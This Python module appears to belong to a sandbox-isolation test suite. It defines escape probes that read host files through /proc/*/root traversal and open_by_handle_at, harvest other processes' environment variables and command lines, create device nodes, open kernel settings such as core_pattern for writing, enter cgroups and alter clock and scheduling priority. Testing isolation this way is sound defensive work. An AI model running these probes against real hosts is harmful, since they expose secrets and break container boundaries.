"""Attacks on the host: its files, processes, settings and devices."""

from attacks.attack import Attack, Place, Stakes, attack, python, shell


def loot(text: str, stakes: Stakes) -> str:
    return text if stakes.secret in text else ""


FILES = """
import glob, sys
path = sys.argv[1]
ways = [path, "../" * 9 + path, "/proc/1/root" + path, "/proc/self/root" + path, *(
    way + path for pattern in ("/proc/[0-9]*/root", "/proc/[0-9]*/cwd/" + "../" * 9) for way in glob.glob(pattern))]
for way in ways:
    try:
        print("WON", open(way).read())
    except OSError as error:
        print(way, error, file=sys.stderr)
"""


@attack("host-file")
async def host_file(place: Place, stakes: Stakes) -> str:
    return loot(await python(place, FILES, str(stakes.file)), stakes)


HANDLE = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
for mount in (sys.argv[2], "/", "/workspace", "/etc/hostname", "/usr", "/run/openforge"):
    try:
        at = os.open(mount, os.O_RDONLY)
    except OSError:
        continue
    fd = libc.open_by_handle_at(at, ctypes.create_string_buffer(bytes.fromhex(sys.argv[1])), os.O_RDONLY)
    if fd >= 0:
        print("WON", os.read(fd, 100).decode())
    print(mount, os.strerror(ctypes.get_errno()), file=sys.stderr)
"""


@attack("host-file-by-handle")
async def host_file_by_handle(place: Place, stakes: Stakes) -> str:
    return loot(await python(place, HANDLE, stakes.handle, str(stakes.folder)), stakes)


PROCESSES = """
import glob, sys
for place in glob.glob("/proc/[0-9]*/" + sys.argv[1]):
    try:
        print("WON", open(place, "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
    except OSError as error:
        print(place, error, file=sys.stderr)
"""


@attack("environment-of-others")
async def environment_of_others(place: Place, stakes: Stakes) -> str:
    return loot(await python(place, PROCESSES, "environ"), stakes)


@attack("command-lines-of-others")
async def command_lines_of_others(place: Place, stakes: Stakes) -> str:
    beside = await place.neighbour()
    await shell(beside, f"exec -a {stakes.secret} sleep 30 >/dev/null 2>&1 & sleep 0.2")
    return loot(await python(place, PROCESSES, "cmdline"), stakes)


DESCRIPTORS = """
import os, sys
for name in os.listdir("/proc/self/fd"):
    try:
        print("WON", name, os.pread(int(name), 100, 0).decode(errors="replace"))
    except OSError as error:
        print(name, error, file=sys.stderr)
"""


@attack("inherited-descriptors")
async def inherited_descriptors(place: Place, stakes: Stakes) -> str:
    return loot(await python(place, DESCRIPTORS), stakes)


DEVICES = """
import os, stat, sys
disk = os.stat("/").st_dev
for kind, number in ((stat.S_IFCHR, os.makedev(1, 5)), (stat.S_IFBLK, disk), (stat.S_IFCHR, os.makedev(1, 1))):
    try:
        os.mknod("device", 0o600 | kind, number)
        print("WON", os.read(os.open("device", os.O_RDONLY), 16))
    except OSError as error:
        print(error, file=sys.stderr)
    finally:
        os.path.lexists("device") and os.unlink("device")
for known in ("mem", "kmsg", "port", "kvm", "vda", "sda", "nvme0n1", "fuse", "net/tun", "vhost-net", "loop-control"):
    try:
        os.open("/dev/" + known, os.O_RDWR)
        print("WON", known)
    except OSError as error:
        print(error, file=sys.stderr)
"""


@attack("device-nodes")
async def device_nodes(place: Place, stakes: Stakes) -> str:
    return await python(place, DEVICES)


PROGRAMS = """
import os, sys
for folder in sys.argv[1:]:
    for name in (folder + "/planted", folder + "/sh", folder + "/passwd", folder + "/init.pyc"):
        try:
            made = not os.path.exists(name)
            os.close(os.open(name, os.O_WRONLY | os.O_CREAT))
            print("WON", name)
            made and os.unlink(name)
        except OSError as error:
            print(error, file=sys.stderr)
"""


@attack("programs-of-others")
async def programs_of_others(place: Place, stakes: Stakes) -> str:
    return await python(place, PROGRAMS, *place.targets["programs"])


SETTINGS = """
import os, sys
for name in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
             "/proc/sys/vm/drop_caches", "/proc/sys/kernel/panic", "/proc/1/oom_score_adj"):
    try:
        os.close(os.open(name, os.O_WRONLY))  # nothing is written
        print("WON", name)
    except OSError as error:
        print(error, file=sys.stderr)
"""


@attack("kernel-settings")
async def kernel_settings(place: Place, stakes: Stakes) -> str:
    return await python(place, SETTINGS)


GROUPS = """
import ctypes, glob, os, sys
mounting = ctypes.CDLL(None).mount(b"none", b"/tmp", b"cgroup2", 0, None) == 0
tried = [sys.argv[1], *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True), *glob.glob("/tmp/**/cgroup.procs")]
for place in tried:
    try:
        open(place, "w").write("0")
        print("WON", place)
        break
    except OSError as error:
        print(error, file=sys.stderr)
"""


@attack("control-groups")
async def control_groups(place: Place, stakes: Stakes) -> str:
    """To leave one's limits. The group that is entered is one that the test made."""
    return await python(place, GROUPS, str(stakes.group / "cgroup.procs"))


CLOCK = """
import ctypes, os, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
change = ctypes.create_string_buffer(256)
struct.pack_into("I4xq", change, 0, 0x8001, 0)  # adjust by nothing at all: harmless, and only who may is allowed to
if libc.adjtimex(change) >= 0:
    print("WON the clock can be adjusted")
else:
    print(os.strerror(ctypes.get_errno()), file=sys.stderr)
    for clock in (time.CLOCK_REALTIME, time.CLOCK_MONOTONIC):
        try:
            time.clock_settime(clock, 1e9)
            print("WON", clock)
        except OSError as error:
            print(error, file=sys.stderr)
"""


@attack("clock")
async def clock(place: Place, stakes: Stakes) -> str:
    return await python(place, CLOCK)


PRIORITY = """
import os, sys
for take in (lambda: os.nice(-10), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))):
    try:
        take()
        print("WON")
    except OSError as error:
        print(error, file=sys.stderr)
"""


@attack("priority")
async def priority(place: Place, stakes: Stakes) -> str:
    return await python(place, PRIORITY)


ATTACKS: tuple[Attack, ...] = (
    host_file,
    host_file_by_handle,
    environment_of_others,
    command_lines_of_others,
    inherited_descriptors,
    device_nodes,
    programs_of_others,
    kernel_settings,
    control_groups,
    clock,
    priority,
)
